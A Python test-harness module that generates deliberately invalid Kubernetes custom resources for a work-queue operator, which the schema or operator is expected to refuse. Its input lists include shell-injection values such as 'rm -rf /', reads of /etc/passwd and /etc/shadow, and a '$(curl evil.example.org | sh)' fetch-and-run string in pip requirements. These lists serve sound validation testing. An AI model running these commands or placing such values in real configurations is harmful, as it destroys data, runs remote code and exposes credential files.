"""Invalid and hostile WorkQueueManagers, WorkerPools and PonchoEnvs: valid templates, each
mutated in one field by one kind of damage (wrong type, out of range, bad quantity, bad or
over-long or unicode name, bad URL or image, shell metacharacters, a missing, conflicting or
unknown field, a reference to something absent or in another namespace). Every object this
module makes must be refused: by the CRD schema, or by the operator (``Accepted=False``).

Test harness only; pure: builds dicts, talks to nothing."""

from __future__ import annotations

import copy
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

GROUP_VERSION = "workqueue.dev/v1alpha1"
PLURALS = {
    "WorkQueueManager": "workqueuemanagers",
    "WorkerPool": "workerpools",
    "PonchoEnv": "ponchoenvs",
}
ELSEWHERE = "elsewhere"
"""A WorkQueueManager and a PonchoEnv of this name exist in another namespace only."""

EXTERNAL: dict[str, Any] = {"mode": "External", "address": "mgr.example.org:9123"}
IN_CLUSTER: dict[str, Any] = {
    "mode": "InCluster",
    "image": "registry.example.org/me/manager:1.0",
    "command": ["python3", "/app/manager.py"],
    "port": 9123,
    "resources": {"cpu": "500m", "memory": "512Mi"},
}
POOL: dict[str, Any] = {
    "managerRef": {"name": "valid-mgr"},
    "minWorkers": 0,
    "maxWorkers": 4,
    "worker": {"cores": 1, "memory": "1Gi", "disk": "2Gi", "gpus": 0},
    "sizing": {"mode": "Buckets", "strategy": "greedy", "maxBuckets": 4, "marginPercent": 10},
    "autoscale": {"pollIntervalSeconds": 5, "scaleUpStep": 10, "idleDelaySeconds": 60},
}
ENV: dict[str, Any] = {
    "spec": {"pip": ["six==1.16.0"]},
    "output": {"tarball": {"url": "https://store.example.org/envs"}},
}

WRONG_TYPES: tuple[Any, ...] = ("five", 1.5, True, [1], {"a": 1})
BAD_INTEGERS: tuple[Any, ...] = (-1, -(2**40), 2**40, 10**18)
BAD_QUANTITIES: tuple[Any, ...] = (
    "lots", "-1Gi", "1.5.5Gi", "10XB", "", "1Gi; rm -rf /", "😀", "9" * 300, -5, 1.5, True,
)  # fmt: skip
"""Not quantities. A whole number is one (``cpu: 2``), as in Kubernetes' own resources."""
BAD_SIZES: tuple[Any, ...] = ("0", "0Gi", "512", "512m", "0.5Mi", "1000k", 0, 512, 2**20 - 1)
"""Quantities, but no size a pod or worker can have (bytes, under 1Mi; "m" is thousandths)."""
WRONG_KEY_SECRET = "pw-other-key"
"""A Secret that exists in the test's namespace, with key ``pass`` only (not ``password``)."""
BAD_NAMES: tuple[Any, ...] = ("Mgr", "a" * 300, "😀", "../etc", "ns/other", "-x", "", "a b")
BAD_URLS: tuple[Any, ...] = (
    "Ki", "😀", "http://x/$(rm -rf /)", "ftp://x.org/f", "a" * 3000, "http:// x", "`id`",
    "http://" + "a" * 2100,
)  # fmt: skip
BAD_URL_PREFIXES: tuple[str, ...] = ("https://x.org/envs?token=abc", "https://x.org/envs#top")
"""URLs the operator appends paths to, which a query or fragment would break."""
BAD_IMAGES: tuple[Any, ...] = (
    "Ki:$$", "😀", "a" * 70000, "UPPER CASE", "img@sha256:short", "img:" + "t" * 200,
    "img;rm -rf /", "",
)  # fmt: skip
BAD_ADDRESSES: tuple[Any, ...] = ("nohost", "host:99999", "host:port", ":9123", "😀:1", "a" * 300)
HOSTILE_PIP: tuple[str, ...] = (
    "six; rm -rf /", "--index-url http://evil.example.org", "$(curl evil.example.org | sh)",
    "six`id`", "-r /etc/passwd", "six && ls", "six==1.0 | cat /etc/shadow",
)  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """One object to apply, and what was done to it."""

    kind: str
    name: str
    body: dict[str, Any]
    damage: str

    @property
    def plural(self) -> str:
        return PLURALS[self.kind]


def _set(obj: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    """A copy of ``obj`` with the dotted ``path`` set to ``value`` (``DELETE`` removes it)."""
    out = copy.deepcopy(obj)
    *parents, leaf = path.split(".")
    node = out
    for part in parents:
        node = node.setdefault(part, {})
    if value is DELETE:
        node.pop(leaf, None)
    else:
        node[leaf] = value
    return out


DELETE = object()


def _field_damage() -> Iterator[tuple[str, dict[str, Any], str]]:
    """(kind, spec, damage) for every field's damage catalogue."""
    numbers = {
        "WorkQueueManager": (EXTERNAL, ["port", "pollIntervalSeconds"]),
        "WorkerPool": (
            POOL,
            [
                "minWorkers", "maxWorkers", "replicas", "worker.cores", "worker.gpus",
                "sizing.maxBuckets", "sizing.marginPercent", "sizing.minSamples",
                "autoscale.pollIntervalSeconds", "autoscale.scaleUpStep",
                "autoscale.idleDelaySeconds", "autoscale.cooldownSeconds",
            ],
        ),
    }  # fmt: skip
    for kind, (base, paths) in numbers.items():
        for path in paths:
            # replicas is refused outright with autoscale on: damage it where it is followed.
            where = _set(base, "autoscale.enabled", False) if path == "replicas" else base
            for value in (*BAD_INTEGERS, *WRONG_TYPES):
                yield kind, _set(where, path, value), f"{path}={value!r:.40}"
    quantities = {
        "WorkQueueManager": (IN_CLUSTER, ["resources.cpu", "resources.memory"]),
        "WorkerPool": (POOL, ["worker.memory", "worker.disk"]),
    }
    for kind, (base, paths) in quantities.items():
        for path in paths:
            for value in BAD_QUANTITIES:
                yield kind, _set(base, path, value), f"{path}={value!r:.40}"
            for value in BAD_SIZES if path != "resources.cpu" else ():
                yield kind, _set(base, path, value), f"{path}={value!r:.40}"
    for value in BAD_NAMES:
        yield "WorkerPool", _set(POOL, "managerRef.name", value), f"managerRef.name={value!r:.40}"
        yield "WorkerPool", _set(POOL, "envRef", {"name": value}), f"envRef.name={value!r:.40}"
        yield (
            "WorkQueueManager",
            _set(EXTERNAL, "passwordSecretRef", {"name": value}),
            f"passwordSecretRef.name={value!r:.40}",
        )
        yield (
            "PonchoEnv",
            _set(ENV, "output", {"tarball": {"pvc": {"claimName": value}}}),
            f"claimName={value!r:.40}",
        )
    for value in BAD_URLS:
        yield (
            "WorkQueueManager",
            _set(EXTERNAL, "telemetryUrl", value),
            f"telemetryUrl={value!r:.40}",
        )
        yield (
            "WorkerPool",
            _set(POOL, "sizing.telemetryUrl", value),
            f"sizing.telemetryUrl={value!r:.40}",
        )
        yield "PonchoEnv", _set(ENV, "output.tarball.url", value), f"tarball.url={value!r:.40}"
        yield (
            "PonchoEnv",
            _set(ENV, "spec", {"http": {"DATA": {"url": value}}}),
            f"http.url={value!r:.40}",
        )
        yield (
            "PonchoEnv",
            _set(ENV, "spec", {"git": {"SRC": {"remote": value}}}),
            f"git.remote={value!r:.40}",
        )
    for value in BAD_URL_PREFIXES:
        yield "WorkQueueManager", _set(EXTERNAL, "telemetryUrl", value), f"telemetryUrl={value}"
        yield "WorkerPool", _set(POOL, "sizing.telemetryUrl", value), f"sizing.telemetryUrl={value}"
        yield "PonchoEnv", _set(ENV, "output.tarball.url", value), f"tarball.url={value}"
    for value in BAD_IMAGES:
        yield "WorkerPool", _set(POOL, "image", value), f"image={value!r:.40}"
        yield "WorkQueueManager", _set(IN_CLUSTER, "image", value), f"manager image={value!r:.40}"
        yield "PonchoEnv", _set(ENV, "builderImage", value), f"builderImage={value!r:.40}"
    for value in BAD_ADDRESSES:
        yield "WorkQueueManager", _set(EXTERNAL, "address", value), f"address={value!r:.40}"
        yield (
            "WorkerPool",
            _set(POOL, "managerRef", DELETE) | {"manager": {"address": value}},
            f"manager.address={value!r:.40}",
        )
    enums = {
        "WorkQueueManager": (EXTERNAL, {"mode": "Cloud", "framework": "Condor"}),
        "WorkerPool": (
            POOL,
            {
                "sizing.mode": "Magic",
                "sizing.strategy": "random",
                "sizing.updateMode": "Sometimes",
            },
        ),
    }
    for kind, (base, values) in enums.items():
        for path, value in values.items():
            for bad in (value, value.lower(), "", 7, "😀"):
                yield kind, _set(base, path, bad), f"{path}={bad!r:.40}"
    for requirement in HOSTILE_PIP:
        yield "PonchoEnv", _set(ENV, "spec.pip", [requirement]), f"pip={requirement!r:.40}"
        yield (
            "PonchoEnv",
            _set(ENV, "spec", {"conda": {"dependencies": [requirement]}}),
            f"conda dependency={requirement!r:.40}",
        )


BAD_KEYS: tuple[str, ...] = ("bad key!", "a" * 70, "😀", "/x", "x/" + "a" * 70, "-lead")
BAD_LABEL_VALUES: tuple[str, ...] = ("bad value!", "a" * 64, "😀", "-x")
BAD_TOLERATIONS: tuple[Any, ...] = (
    [{"operator": "Maybe"}], [{"effect": "Sometimes"}], "all", [{"tolerationSeconds": -5}],
    [{"key": "a" * 400}], [{"value": "bad value!"}], ["x"],
    [{"key": "gpu", "operator": "Exists", "value": "yes"}], [{"effect": "NoSchedule"}],
    [{"key": "gpu", "tolerationSeconds": 30}],
)  # fmt: skip


def _pod_damage(base: dict[str, Any], at: str) -> Iterator[tuple[dict[str, Any], str]]:
    """Damaged pod placement and metadata under ``at`` (``template`` or ``builder``)."""
    maps = ("nodeSelector",) if at == "builder" else ("labels", "annotations", "nodeSelector")
    for field in maps:
        for key in BAD_KEYS:
            yield _set(base, f"{at}.{field}", {key: "x"}), f"{at}.{field} key {key!r:.30}"
        if field != "annotations":
            for value in BAD_LABEL_VALUES:
                yield (
                    _set(base, f"{at}.{field}", {"ok": value}),
                    f"{at}.{field} value {value!r:.30}",
                )
    for value in BAD_TOLERATIONS:
        yield _set(base, f"{at}.tolerations", value), f"{at}.tolerations={value!r:.40}"
    names = (
        ("priorityClassName",) if at == "builder" else ("priorityClassName", "serviceAccountName")
    )
    for field in names:
        for name in BAD_NAMES:
            yield _set(base, f"{at}.{field}", name), f"{at}.{field}={name!r:.30}"


def _more_damage() -> Iterator[tuple[str, dict[str, Any], str]]:
    """Pod placement of pools, managers and build pods; wrong types of string and list fields."""
    for kind, base in (("WorkerPool", POOL), ("WorkQueueManager", IN_CLUSTER)):
        for spec, damage in _pod_damage(base, "template"):
            yield kind, spec, damage
    for spec, damage in _pod_damage(ENV, "builder"):
        yield "PonchoEnv", spec, damage
    for field in ("cpu", "memory", "memoryLimit"):
        for value in (*BAD_QUANTITIES, *(BAD_SIZES if field != "cpu" else ())):
            yield (
                "PonchoEnv",
                _set(ENV, f"builder.resources.{field}", value),
                (f"builder.resources.{field}={value!r:.30}"),
            )
    for value in (5, [], {}, "x" * 200, ""):
        yield "WorkQueueManager", _set(EXTERNAL, "projectName", value), f"projectName={value!r:.30}"
    for value in BAD_ADDRESSES:
        spec = _set(_set(EXTERNAL, "address", DELETE), "projectName", "p") | {"catalog": value}
        yield "WorkQueueManager", spec, f"catalog={value!r:.30}"
    for value in ([1], [{}], "python3 run.py", [["a"]]):
        yield "WorkQueueManager", _set(IN_CLUSTER, "command", value), f"command={value!r:.30}"
        yield "WorkQueueManager", _set(IN_CLUSTER, "args", value), f"args={value!r:.30}"
        yield "WorkerPool", _set(POOL, "workerArgs", value), f"workerArgs={value!r:.30}"
    for value in ([{"name": ""}], [{"value": "v"}], "X=1", [{"name": "X", "value": 5}],
                  [{"name": "A=B", "value": "1"}], [{"name": "tab\there"}]):  # fmt: skip
        yield "WorkQueueManager", _set(IN_CLUSTER, "env", value), f"env={value!r:.30}"
        yield "PonchoEnv", _set(ENV, "builder.env", value), f"builder.env={value!r:.30}"
    for value in ([5], [{}], [["six"]], [None]):
        yield "PonchoEnv", _set(ENV, "spec.pip", value), f"pip={value!r:.30}"
    for value in ("yes", 1, [], {}):
        yield "PonchoEnv", _set(ENV, "shareAcrossNamespaces", value), f"share={value!r:.30}"
        yield (
            "WorkerPool",
            _set(POOL, "autoscale.enabled", value),
            f"autoscale.enabled={value!r:.30}",
        )
        yield "WorkQueueManager", _set(EXTERNAL, "monitoring", value), f"monitoring={value!r:.30}"


def _structural_damage() -> Iterator[tuple[str, dict[str, Any], str]]:
    """Missing, conflicting, unknown and misplaced fields; references to what is absent."""
    pool_both = _set(POOL, "manager", {"address": "mgr.example.org:9123"})
    yield "WorkerPool", pool_both, "both managerRef and manager"
    yield "WorkerPool", _set(POOL, "managerRef", DELETE), "neither managerRef nor manager"
    yield "WorkerPool", _set(_set(POOL, "minWorkers", 5), "maxWorkers", 2), "min > max"
    manual = _set(POOL, "autoscale.enabled", False)
    yield "WorkerPool", _set(manual, "replicas", 9), "replicas above maxWorkers"
    yield (
        "WorkerPool",
        _set(POOL, "managerRef", DELETE) | {"manager": {"address": "h:1", "projectName": "p"}},
        "manager with address and projectName",
    )
    yield (
        "WorkerPool",
        _set(POOL, "managerRef", DELETE) | {"manager": {"address": "h:1", "catalog": "c:9097"}},
        "catalog without projectName",
    )
    yield "WorkerPool", _set(POOL, "managerRef.name", "nobody"), "managerRef to nothing"
    yield "WorkerPool", _set(POOL, "managerRef.name", ELSEWHERE), "managerRef to another namespace"
    yield "WorkerPool", _set(POOL, "envRef", {"name": "nothing"}), "envRef to nothing"
    yield "WorkerPool", _set(POOL, "envRef", {"name": ELSEWHERE}), "envRef to another namespace"
    yield "WorkerPool", _set(POOL, "managerRef.namespace", "kube-system"), "managerRef.namespace"
    yield "WorkerPool", _set(POOL, "hostNetwork", True), "unknown field hostNetwork"
    yield "WorkerPool", _set(POOL, "worker", "big"), "worker is a string"
    yield "WorkerPool", _set(POOL, "workerArgs", "--cores=64"), "workerArgs is a string"
    yield "WorkQueueManager", {"mode": "InCluster"}, "InCluster without image"
    yield "WorkQueueManager", {"mode": "External"}, "External without address or projectName"
    yield "WorkQueueManager", _set(IN_CLUSTER, "address", "h:1"), "address on InCluster"
    yield (
        "WorkQueueManager",
        _set(EXTERNAL, "passwordSecretRef", {"name": "absent"}),
        ("passwordSecretRef to nothing"),
    )
    for key in ("", "../etc/passwd", "a b", "k" * 300):
        yield (
            "WorkQueueManager",
            _set(EXTERNAL, "passwordSecretRef", {"name": "pw", "key": key}),
            f"passwordSecretRef.key={key!r:.30}",
        )
    yield (
        "WorkQueueManager",
        _set(EXTERNAL, "passwordSecretRef", {"name": WRONG_KEY_SECRET}),
        "passwordSecretRef to a key the Secret lacks",
    )
    yield "WorkQueueManager", _set(IN_CLUSTER, "port", 9090), "InCluster on the agent's port"
    yield "WorkQueueManager", _set(EXTERNAL, "projectName", "x" * 500), "projectName too long"
    for field, value in (("image", "m:1"), ("command", ["python3"]), ("env", [{"name": "A"}])):
        yield "WorkQueueManager", _set(EXTERNAL, field, value), f"External with {field}"
    yield "WorkQueueManager", _set(EXTERNAL, "catalog", "cat.example.org:9097"), "catalog + address"
    yield "WorkerPool", _set(POOL, "replicas", 2), "replicas while autoscale is on"
    yield "WorkQueueManager", _set(EXTERNAL, "command", "python3 run.py"), "command is a string"
    yield "WorkQueueManager", _set(EXTERNAL, "env", [{"value": "x"}]), "env without name"
    yield (
        "WorkQueueManager",
        _set(IN_CLUSTER, "env", [{"name": "WORKQUEUE_PORT", "value": "9999"}]),
        "env sets the operator's WORKQUEUE_PORT",
    )
    yield "PonchoEnv", _set(ENV, "spec", {}), "spec installs nothing"
    yield "PonchoEnv", _set(ENV, "spec", {"pip": []}), "pip installs nothing"
    yield "PonchoEnv", _set(ENV, "spec", {"pip": [], "git": {}}), "empty sections only"
    for source in ({"type": "tgz"}, {"compression": "gz"}, {"type": "TAR"}):
        yield (
            "PonchoEnv",
            _set(ENV, "spec", {"http": {"DATA": {"url": "https://x.org/d.tgz"} | source}}),
            f"http source {source}",
        )
    yield "PonchoEnv", _set(ENV, "output", {}), "no output"
    for url in ("s3://bucket/envs", "gs://bucket/envs"):
        yield "PonchoEnv", _set(ENV, "output.tarball.url", url), f"tarball.url {url}"
    yield (
        "PonchoEnv",
        _set(ENV, "output.tarball.pvc", {"claimName": "envs"}),
        "tarball with pvc and url",
    )
    yield (
        "PonchoEnv",
        _set(ENV, "output", {"tarball": {"pvc": {"claimName": "absent"}}}),
        ("claim that does not exist"),
    )
    yield (
        "PonchoEnv",
        _set(ENV, "builder", {"caBundle": {"name": "absent-ca"}}),
        "caBundle to nothing",
    )
    yield "PonchoEnv", _set(ENV, "spec.pip", "six==1.16.0"), "pip is a string"
    yield "PonchoEnv", _set(ENV, "spec", {"git": ["https://x.org/r.git"]}), "git is a list"
    yield (
        "PonchoEnv",
        _set(ENV, "spec", {"http": {"1BAD": {"url": "https://x.org/f"}}}),
        ("http key is not a variable name"),
    )


def hostile_objects() -> list[Hostile]:
    """Every damaged object, each with its own name."""
    found = []
    damaged = (*_field_damage(), *_more_damage(), *_structural_damage())
    for index, (kind, spec, damage) in enumerate(damaged):
        name = f"h{index:04d}"
        body = {"apiVersion": GROUP_VERSION, "kind": kind, "metadata": {"name": name}}
        found.append(Hostile(kind, name, body | {"spec": spec}, damage))
    found += _hostile_metadata()
    return found


def _hostile_metadata() -> list[Hostile]:
    """Object names the apiserver itself refuses, a WorkerPool name too long for its pods'
    labels, and InCluster manager names that cannot name a Service."""
    names = ("UPPER", "😀-pool", "a" * 300, "bad_name", "-dash")
    found = [
        Hostile("WorkerPool", name, _body("WorkerPool", name, POOL), f"metadata.name={name!r:.40}")
        for name in names
    ]
    long_pool = "p" * 64
    found.append(
        Hostile("WorkerPool", long_pool, _body("WorkerPool", long_pool, POOL), "name of 64")
    )
    # An InCluster manager's name names its Service: a DNS label.
    for name, damage in (
        ("mgr.v2", "InCluster name with a dot"),
        ("m" * 64, "InCluster name of 64"),
    ):
        found.append(
            Hostile("WorkQueueManager", name, _body("WorkQueueManager", name, IN_CLUSTER), damage)
        )
    return found


def _body(kind: str, name: str, spec: dict[str, Any]) -> dict[str, Any]:
    return {"apiVersion": GROUP_VERSION, "kind": kind, "metadata": {"name": name}, "spec": spec}
